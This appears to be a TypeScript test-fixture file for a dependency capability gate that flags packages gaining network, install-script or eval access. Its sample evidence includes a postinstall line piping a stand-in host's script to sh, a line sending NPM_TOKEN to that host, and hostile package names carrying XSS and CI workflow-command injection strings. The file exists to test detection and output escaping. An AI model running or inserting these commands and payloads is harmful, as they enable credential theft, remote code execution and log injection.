import type { GatePackage, GateReport } from '../../src/contract/index.js';

const DEFAULT_RULE = { rule: 'default', allowed: [] };

/** Fields a package of the canonical gate shares unless it says otherwise. */
function pkg(p: Partial<GatePackage> & Pick<GatePackage, 'name' | 'change' | 'version' | 'key' | 'line'>): GatePackage {
  return {
    source: 'registry', dev: false, optional: false, status: 'ok', capabilities: [], gained: [], lost: [], transitive: [],
    via: [`${p.name}@${p.version}`], evidence: [], policy: DEFAULT_RULE, ...p,
  };
}

/**
 * The name, excerpt and message a hostile package controls: line breaks, a workflow command, table pipes,
 * backtick runs, HTML, an ANSI escape, and the `%`, `,` and `:` that workflow-command properties escape.
 */
export const HOSTILE_NAME = 'h%st,ile:`|<img src=x onerror=alert(1)>';
export const HOSTILE_EXCERPT = 'eval(atob(p))\u001b[2J ` </details><script>alert(1)</script> ``` | x | y |\n::error::injected';

/** One canonical gate report, rendered by every gate formatter. */
export const CANONICAL_GATE: GateReport = {
  schemaVersion: 1,
  verdict: 'fail',
  base: { ref: 'origin/main', lockfile: 'package-lock.json', format: 'npm', packages: 412 },
  head: { ref: 'HEAD', lockfile: 'package-lock.json', format: 'npm', packages: 414 },
  policy: { path: 'depcaps.policy.json', strict: false, allowIncomplete: false },
  packages: [
    // An upgrade that gains network through a dependency it did not have before.
    pkg({
      name: 'left-pad', change: 'upgraded', from: '1.2.0', to: '1.3.0', version: '1.3.0', key: 'node_modules/left-pad', line: 20,
      capabilities: [], previous: [], transitive: [{ capability: 'network', via: ['tiny-fetch@2.0.0'] }],
    }),
    // …and that dependency, new in the tree, allowed network by its own rule.
    pkg({
      name: 'tiny-fetch', change: 'added', to: '2.0.0', version: '2.0.0', key: 'node_modules/tiny-fetch', line: 150,
      capabilities: ['network'], gained: ['network'], via: ['left-pad@1.3.0', 'tiny-fetch@2.0.0'],
      evidence: [{ capability: 'network', api: 'fetch', file: 'index.js', line: 3, column: 10, excerpt: 'return fetch(url, init);' }],
      policy: { rule: 'tiny-fetch', allowed: ['network'], reason: 'HTTP client, reviewed in #412' },
    }),
    // A new package with an install script and network: two violations.
    pkg({
      name: 'evil-pkg', change: 'added', to: '1.0.0', version: '1.0.0', key: 'node_modules/evil-pkg', line: 40,
      capabilities: ['install-script', 'network'], gained: ['install-script', 'network'], via: ['build-tools@4.1.0', 'evil-pkg@1.0.0'],
      evidence: [
        { capability: 'install-script', api: 'postinstall: curl, pipe to shell', file: 'package.json', line: 7, column: 5, excerpt: '"postinstall": "curl -s https://x.example/p.sh | sh"' },
        { capability: 'network', api: 'https.get', file: 'lib/index.js', line: 4, column: 1, excerpt: "https.get('https://x.example/?t=' + process.env.NPM_TOKEN);" },
      ],
    }),
    // An allowed upgrade: the rule allows what it gained, and says why.
    pkg({
      name: 'axios', change: 'upgraded', from: '1.6.0', to: '1.7.2', version: '1.7.2', key: 'node_modules/axios', line: 12,
      capabilities: ['env', 'network'], previous: ['network'], gained: ['env'],
      evidence: [{ capability: 'env', api: 'process.env.HTTPS_PROXY', file: 'lib/env.js', line: 3, column: 15, excerpt: 'const proxy = process.env.HTTPS_PROXY;' }],
      policy: { rule: 'axios@^1', allowed: ['env', 'network'], reason: 'reads HTTP(S)_PROXY' },
    }),
    // Ignored by the policy: it gains an install script and is still no violation.
    pkg({
      name: 'esbuild', change: 'upgraded', from: '0.20.0', to: '0.21.0', version: '0.21.0', key: 'node_modules/esbuild', line: 90, dev: true,
      capabilities: ['install-script', 'shell'], previous: ['shell'], gained: ['install-script'],
      evidence: [{ capability: 'install-script', api: 'postinstall', file: 'package.json', line: 12, column: 5, excerpt: '"postinstall": "node install.js"' }],
      policy: { rule: 'esbuild', allowed: [], reason: 'build tool, dev only', ignored: true },
    }),
    // A downgrade that loses a capability.
    pkg({
      name: 'semver', change: 'downgraded', from: '7.6.0', to: '7.5.4', version: '7.5.4', key: 'node_modules/semver', line: 200,
      capabilities: [], previous: ['env'], lost: ['env'],
    }),
    // A removal: its line is in the base lockfile.
    pkg({
      name: 'request', change: 'removed', from: '2.88.2', version: '2.88.2', key: 'node_modules/request', line: 33,
      capabilities: ['filesystem', 'network'], lost: ['filesystem', 'network'],
    }),
    // Same version, other source.
    pkg({
      name: 'local-lib', change: 'changed', from: '1.0.0', to: '1.0.0', version: '1.0.0', key: 'node_modules/local-lib', line: 70, source: 'file',
      capabilities: ['filesystem'], previous: ['filesystem'],
    }),
    // Partly analysed: the gate fails closed.
    pkg({
      name: 'big-bundle', change: 'upgraded', from: '3.0.0', to: '3.1.0', version: '3.1.0', key: 'node_modules/big-bundle', line: 80, status: 'partial',
      capabilities: ['filesystem'], previous: ['filesystem'], error: 'dist/big.js: file-too-large (6.1 MiB > 5 MiB)',
    }),
    // Platform packages of esbuild: two new ones gain native (one family, two violations), two others only move on.
    ...['netbsd-arm64', 'openharmony-arm64'].map((platform, i) => pkg({
      name: `@esbuild/${platform}`, change: 'added', to: '0.21.0', version: '0.21.0', key: `node_modules/@esbuild/${platform}`, line: 100 + i, optional: true,
      family: { parent: 'esbuild', glob: '@esbuild/*' }, capabilities: ['native'], gained: ['native'], via: ['esbuild@0.21.0', `@esbuild/${platform}@0.21.0`],
      evidence: [{ capability: 'native', api: 'ELF binary', file: 'bin/esbuild', line: 1, column: 1, excerpt: 'ELF binary (9811968 bytes)' }],
    })),
    ...['darwin-arm64', 'linux-x64'].map((platform, i) => pkg({
      name: `@esbuild/${platform}`, change: 'upgraded', from: '0.20.0', to: '0.21.0', version: '0.21.0', key: `node_modules/@esbuild/${platform}`, line: 110 + i, optional: true,
      family: { parent: 'esbuild', glob: '@esbuild/*' }, capabilities: ['native'], previous: ['native'], via: ['esbuild@0.21.0', `@esbuild/${platform}@0.21.0`],
    })),
    // A hostile name and excerpt.
    pkg({
      name: HOSTILE_NAME, change: 'added', to: '0.0.1', version: '0.0.1', key: `node_modules/${HOSTILE_NAME}`, line: 60,
      capabilities: ['eval'], gained: ['eval'],
      evidence: [{ capability: 'eval', api: 'eval', file: 'index.js', line: 1, column: 1, excerpt: HOSTILE_EXCERPT }],
    }),
  ],
  violations: [
    {
      package: 'left-pad@1.3.0', name: 'left-pad', version: '1.3.0', kind: 'gained', capability: 'network', key: 'node_modules/left-pad', line: 20, rule: 'default', via: ['left-pad@1.3.0'],
      message: 'left-pad 1.2.0 → 1.3.0 gained network through tiny-fetch@2.0.0; policy rule default does not allow it',
    },
    {
      package: 'evil-pkg@1.0.0', name: 'evil-pkg', version: '1.0.0', kind: 'gained', capability: 'network', key: 'node_modules/evil-pkg', line: 40, rule: 'default', via: ['build-tools@4.1.0', 'evil-pkg@1.0.0'],
      message: 'evil-pkg@1.0.0 (added) has network; policy rule default does not allow it',
    },
    {
      package: 'evil-pkg@1.0.0', name: 'evil-pkg', version: '1.0.0', kind: 'gained', capability: 'install-script', key: 'node_modules/evil-pkg', line: 40, rule: 'default', via: ['build-tools@4.1.0', 'evil-pkg@1.0.0'],
      message: 'evil-pkg@1.0.0 (added) has install-script; policy rule default does not allow it',
    },
    {
      package: `${HOSTILE_NAME}@0.0.1`, name: HOSTILE_NAME, version: '0.0.1', kind: 'gained', capability: 'eval', key: `node_modules/${HOSTILE_NAME}`, line: 60, rule: 'default', via: [`${HOSTILE_NAME}@0.0.1`],
      message: `${HOSTILE_NAME}@0.0.1 (added) has eval: ${HOSTILE_EXCERPT}\r\n::warning::also injected`,
    },
    ...['netbsd-arm64', 'openharmony-arm64'].map((platform, i) => ({
      package: `@esbuild/${platform}@0.21.0`, name: `@esbuild/${platform}`, version: '0.21.0', kind: 'gained' as const, capability: 'native', key: `node_modules/@esbuild/${platform}`, line: 100 + i, rule: 'default',
      via: ['esbuild@0.21.0', `@esbuild/${platform}@0.21.0`], message: `@esbuild/${platform} added 0.21.0 gains native (ELF binary at bin/esbuild:1), brought in by esbuild@0.21.0; not allowed by the default allow list`,
    })),
    {
      package: 'big-bundle@3.1.0', name: 'big-bundle', version: '3.1.0', kind: 'incomplete', key: 'node_modules/big-bundle', line: 80, rule: 'default', via: ['big-bundle@3.1.0'],
      message: 'big-bundle@3.1.0 was not fully analysed: dist/big.js: file-too-large (6.1 MiB > 5 MiB)',
    },
  ],
  notices: [],
  summary: { added: 5, removed: 1, upgraded: 6, downgraded: 1, changed: 1, violations: 7, notices: 0, incomplete: 1 },
  suggestedPolicy: {
    '@esbuild/*': { allow: ['native'] },
    'left-pad': { allow: ['network'] },
    'evil-pkg': { allow: ['network', 'install-script'] },
    [HOSTILE_NAME]: { allow: ['eval'] },
  },
  diagnostics: [{ lockfile: 'package-lock.json', key: 'node_modules/broken', line: 300, message: 'malformed integrity "sha512-!!!": ignored' }],
};

/** Nothing changed: the gate passes. */
export const EMPTY_GATE: GateReport = {
  ...CANONICAL_GATE,
  verdict: 'pass',
  packages: [],
  violations: [],
  summary: { added: 0, removed: 0, upgraded: 0, downgraded: 0, changed: 0, violations: 0, notices: 0, incomplete: 0 },
  suggestedPolicy: {},
  diagnostics: [],
};

/**
 * A first run without a policy file: gaining a high or critical capability fails, a medium one is a notice
 * (a package can have both), an allowed-by-nothing change that gains nothing passes.
 */
export const BUILT_IN_GATE: GateReport = {
  ...EMPTY_GATE,
  verdict: 'fail',
  policy: { strict: false, allowIncomplete: false, builtIn: { fails: ['eval', 'global-tamper', 'install-script', 'native', 'network', 'obfuscated', 'shell'], notices: ['dynamic-require', 'env', 'filesystem'] } },
  packages: [
    pkg({
      name: 'debug', change: 'upgraded', from: '4.3.4', to: '4.4.0', version: '4.4.0', key: 'node_modules/debug', line: 30,
      capabilities: ['env'], previous: [], gained: ['env'],
      evidence: [{ capability: 'env', api: 'process.env.DEBUG', file: 'src/node.js', line: 12, column: 9, excerpt: 'return process.env.DEBUG;' }],
    }),
    pkg({
      name: 'knex', change: 'added', to: '2.5.1', version: '2.5.1', key: 'node_modules/knex', line: 50,
      capabilities: ['env', 'filesystem', 'shell'], gained: ['env', 'filesystem', 'shell'], transitive: [{ capability: 'shell', via: ['commander@10.0.1'] }, { capability: 'env', via: ['commander@10.0.1'] }],
      evidence: [
        { capability: 'env', api: 'process.env.KNEX_PATH', file: 'bin/cli.js', line: 98, column: 3, excerpt: 'process.env.KNEX_PATH;' },
        { capability: 'filesystem', api: 'fs', file: 'lib/util/fs.js', line: 1, column: 12, excerpt: "const fs = require('fs');" },
        { capability: 'shell', api: 'child_process', file: 'scripts/build.js', line: 4, column: 23, excerpt: "const child_process = require('child_process');" },
        { capability: 'shell', api: 'child_process.execSync', file: 'scripts/build.js', line: 20, column: 3, excerpt: "child_process.execSync('npm pack');" },
      ],
    }),
    pkg({ name: 'ms', change: 'upgraded', from: '2.1.2', to: '2.1.3', version: '2.1.3', key: 'node_modules/ms', line: 70 }),
  ],
  violations: [
    {
      package: 'knex@2.5.1', name: 'knex', version: '2.5.1', kind: 'gained', capability: 'shell', key: 'node_modules/knex', line: 50, rule: 'default', via: ['knex@2.5.1'],
      message: 'knex added 2.5.1 gains shell (child_process.execSync at scripts/build.js:20); not allowed without a policy file (high and critical capabilities fail the gate)',
    },
  ],
  notices: [
    {
      package: 'debug@4.4.0', name: 'debug', version: '4.4.0', kind: 'gained', capability: 'env', key: 'node_modules/debug', line: 30, rule: 'default', via: ['debug@4.4.0'],
      message: 'debug 4.3.4 → 4.4.0 gains env (process.env.DEBUG at src/node.js:12); a notice: without a policy file only high and critical capabilities fail the gate',
    },
    {
      package: 'knex@2.5.1', name: 'knex', version: '2.5.1', kind: 'gained', capability: 'env', key: 'node_modules/knex', line: 50, rule: 'default', via: ['knex@2.5.1'],
      message: 'knex added 2.5.1 gains env (process.env.KNEX_PATH at bin/cli.js:98); a notice: without a policy file only high and critical capabilities fail the gate',
    },
    {
      package: 'knex@2.5.1', name: 'knex', version: '2.5.1', kind: 'gained', capability: 'filesystem', key: 'node_modules/knex', line: 50, rule: 'default', via: ['knex@2.5.1'],
      message: 'knex added 2.5.1 gains filesystem (fs at lib/util/fs.js:1); a notice: without a policy file only high and critical capabilities fail the gate',
    },
  ],
  summary: { added: 1, removed: 0, upgraded: 2, downgraded: 0, changed: 0, violations: 1, notices: 3, incomplete: 0 },
  suggestedPolicy: { debug: { allow: ['env'] }, knex: { allow: ['env', 'filesystem', 'shell'] } },
};
